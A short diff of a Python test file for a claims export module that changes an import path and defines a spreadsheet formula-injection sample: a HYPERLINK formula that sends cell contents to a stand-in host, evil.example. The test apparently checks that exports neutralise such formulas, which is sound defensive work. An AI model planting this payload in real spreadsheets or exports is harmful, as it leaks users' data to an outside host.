@@ -6,7 +6,7 @@ import json
 
 import pytest
 
-from claims.exports.csv import FORMULA_STARTS, neutralised
+from claims.exports.spreadsheet import FORMULA_STARTS, neutralised
 from tests.factories import annotate, article
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Secretary of State")'
